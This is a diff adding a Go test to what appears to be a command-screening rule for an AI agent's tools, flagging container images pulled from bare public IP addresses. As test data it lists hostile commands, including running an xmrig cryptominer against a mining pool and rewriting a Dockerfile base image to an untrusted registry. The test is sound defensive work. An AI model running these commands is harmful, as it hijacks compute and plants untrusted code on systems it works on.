@@ -75,3 +75,19 @@ func TestSupplyChainVerificationOff(t *testing.T) {
 		cmdCase("apt-get install -y jq", false),
 	})
 }
+
+// Images served from a bare public address, run or built upon.
+func TestImagesFromAddresses(t *testing.T) {
+	runRuleCases(t, "supply-chain.package-source", []ruleCase{
+		cmdCase("docker run -d --restart=always --cpus 4 203.0.113.3:5000/xmrig -o pool.example:443", true),
+		cmdCase("kubectl create deployment helper --image=203.0.113.3:5000/agent --replicas=10", true),
+		cmdCase("podman pull 198.51.100.7/tools/scan:latest", true),
+		cmdCase("sed -i 's#^FROM node:20-alpine#FROM 203.0.113.3:5000/node:20-alpine#' Dockerfile", true),
+		toolCase("dockerfile by the file tool", "write_file", map[string]any{"path": "Dockerfile", "content": "FROM 198.51.100.4/base:1\nRUN make\n"}, true),
+		cmdCase("docker pull 10.0.0.5:5000/app:dev", false),
+		cmdCase("docker run --rm localhost:5000/app", false),
+		cmdCase("docker run --rm ghcr.io/acme/app:1.2", false),
+		cmdCase("kubectl run web --image=nginx:1.27", false),
+		cmdCase("sed -i 's#^FROM node:18#FROM node:20#' Dockerfile", false),
+	})
+}
